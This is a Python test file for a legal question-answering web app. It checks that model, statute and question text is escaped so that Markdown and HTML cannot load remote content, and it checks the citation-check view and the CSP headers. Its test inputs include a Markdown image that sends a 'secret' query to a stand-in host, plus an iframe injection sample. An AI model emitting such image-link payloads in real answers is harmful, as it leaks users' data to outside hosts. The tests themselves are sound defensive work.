"""Issue 11 part 5 and the 核查引用 view, as pure functions: text a model, a statute or a
question wrote can never become Markdown that loads something, and the check tab's HTML
labels each citation inline and links it to its article card."""

from __future__ import annotations

import pytest

from legalrag.answer.check import CorpusFacts, check_text
from legalrag.numerals import article_label
from legalrag.records import Article
from legalrag.web.security import CSP, HEADERS, SecurityHeaders
from legalrag.web.views import md_esc, render_check, render_question, render_streaming

pytestmark = pytest.mark.fast


@pytest.mark.parametrize("text, shown", [
    ("![图](http://127.0.0.1:9999/leak.png?q=secret)",
     "!&#91;图&#93;(http&#58;//127.0.0.1&#58;9999/leak.png?q=secret)"),
    ("[点此](https://example.com)", "&#91;点此&#93;(https&#58;//example.com)"),
    ("[x][1]\n\n[1]: http://e.com/a.png",
     "&#91;x&#93;&#91;1&#93;\n\n&#91;1&#93;&#58; http&#58;//e.com/a.png"),
    ("见 www.example.com 或 a@b.cn", "见 www&#46;example.com 或 a&#64;b.cn"),
    ('<iframe src="http://e.com"></iframe>',
     "&lt;iframe src=&quot;http&#58;//e.com&quot;&gt;&lt;/iframe&gt;"),
    ("《劳动合同法》第十九条[1]：试用期", "《劳动合同法》第十九条&#91;1&#93;：试用期"),
])
def test_md_esc_leaves_no_markdown_that_loads_or_links(text, shown):
    assert md_esc(text) == shown


def test_the_chat_escapes_questions_and_streamed_answers():
    bad = "![图](http://127.0.0.1:9999/leak.png?q=secret)"
    for html in (render_question(bad), render_streaming(bad)):
        assert "](" not in html and "http:" not in html and "<img" not in html


def art(law: str, number: int, text: str) -> Article:
    return Article(law_title=f"中华人民共和国{law}", law=law, level="法律", category="t",
                   path=(), number=number, suffix=0, label=article_label(number), text=text,
                   version="2012-12-28", in_force=True, source=f"{law}.md", line=1)


def test_render_check_labels_inline_and_links_cards():
    facts = CorpusFacts.from_articles([art("劳动合同法", 47, "经济补偿按年限支付。\n"
                                            "月工资高于三倍的，按三倍支付。")])
    text = "依照《劳动合同法》第四十七条第二款；《星际法》第一条。<b>"
    html = render_check(text, check_text(text, facts))
    assert html == (
        '<div class="lr-check-summary">共 2 处引用：现行有效 1，法库中无此条文 1。'
        "点击引用查看条文。</div>"
        '<div class="lr-check-scope">✓现行有效 只说明所引条文存在且现行有效，'
        "不说明文中的说法与条文相符；请点击引用对照原文。</div>"
        '<div class="lr-check-text">依照<a class="lr-cite lr-in_force" data-check="in_force" '
        'title="✓现行有效：现行有效（2012-12-28版）" href="#lr-c1">'
        "《劳动合同法》第四十七条第二款</a>"
        '<span class="lr-badge lr-in_force">✓现行有效</span>；'
        '<a class="lr-cite lr-invented" data-check="invented" '
        'title="✗法库中无此条文：法库中没有《星际法》" href="#lr-c2">《星际法》第一条</a>'
        '<span class="lr-badge lr-invented">✗法库中无此条文</span>。&lt;b&gt;</div>'
        '<div class="lr-check-cards">'
        '<details class="lr-src lr-check-card" id="lr-c1"><summary>'
        '<span class="lr-badge lr-in_force">✓现行有效</span> <b>《劳动合同法》第四十七条第二款</b>'
        "：现行有效（2012-12-28版）</summary>"
        '<div class="lr-src-meta">中华人民共和国劳动合同法 · 2012-12-28 · 现行有效</div>'
        '<div class="lr-src-text"><p>月工资高于三倍的，按三倍支付。</p></div></details>'
        '<details class="lr-src lr-check-card" id="lr-c2"><summary>'
        '<span class="lr-badge lr-invented">✗法库中无此条文</span> <b>《星际法》第一条</b>'
        "：法库中没有《星际法》</summary>"
        '<div class="lr-src-text">（法库中没有可显示的条文）</div></details></div>')
    assert "没有找到法律条文引用" in render_check("没有引用。", [])


def test_security_headers_are_added_to_every_http_response():
    import asyncio

    sent: list[dict] = []

    async def app(scope, receive, send):
        await send({"type": "http.response.start", "status": 200,
                    "headers": [(b"content-type", b"text/html")]})
        await send({"type": "http.response.body", "body": b"ok"})

    async def send(message):
        sent.append(message)

    asyncio.run(SecurityHeaders(app)({"type": "http"}, None, send))
    headers = dict(sent[0]["headers"])
    assert headers[b"content-security-policy"] == CSP.encode()
    assert headers[b"content-type"] == b"text/html" and len(sent[0]["headers"]) == 1 + len(HEADERS)
    assert "default-src 'self'" in CSP and "img-src 'self' data: blob:" in CSP
    assert "http" not in CSP and "*" not in CSP  # no other origin, no wildcard
